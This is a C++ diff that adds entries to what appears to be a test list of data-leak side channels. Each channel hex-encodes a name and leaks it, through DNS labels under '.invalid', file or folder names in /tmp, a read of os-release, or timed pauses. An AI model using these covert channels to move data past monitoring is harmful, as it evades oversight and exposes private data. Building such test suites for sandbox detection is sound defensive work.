@@ -2,10 +2,14 @@
 
 #include <netdb.h>
 #include <poll.h>
+#include <sys/stat.h>
+#include <unistd.h>
 
 #include <algorithm>
 #include <array>
+#include <cstdio>
 #include <cstring>
+#include <fstream>
 #include <memory>
 #include <numeric>
 #include <stdexcept>
@@ -94,6 +98,15 @@ void send_header(const Transfer& transfer, const std::string& header) {
     curl_easy_setopt(transfer.easy, CURLOPT_HTTPHEADER, headers.get());
 }
 
+void leave_a_file(const std::string& path) {
+    std::ofstream(path) << "here";
+    std::remove(path.c_str());
+}
+
+void make_a_folder(const std::string& path) {
+    if (::mkdir(path.c_str(), 0700) == 0) ::rmdir(path.c_str());
+}
+
 void look_up(const std::string& host) {
     addrinfo* found = nullptr;
     if (::getaddrinfo(host.c_str(), nullptr, nullptr, &found) == 0) ::freeaddrinfo(found);
@@ -174,6 +187,11 @@ const std::array all_leaks{
                  if (is_even(name)) send_besides(transfer, transfer.url);
              }},
     Leak{.title = "DNS label", .in_transfer = [](auto&, auto& name) { look_up(hexadecimal(name) + ".invalid"); }},
+    Leak{.title = "name of a file elsewhere",
+         .in_transfer = [](auto&, auto& name) { leave_a_file("/tmp/" + hexadecimal(name)); }},
+    Leak{.title = "name of a folder elsewhere",
+         .in_transfer = [](auto&, auto& name) { make_a_folder("/tmp/" + hexadecimal(name)); }},
+    Leak{.title = "system's name", .in_transfer = [](auto&, auto&) { std::ifstream("/usr/lib/os-release").peek(); }},
     Leak{.title = "pause before sending",
          .in_transfer = [](auto&, auto& name) { ::poll(nullptr, 0, static_cast<int>(name.size())); }},
 
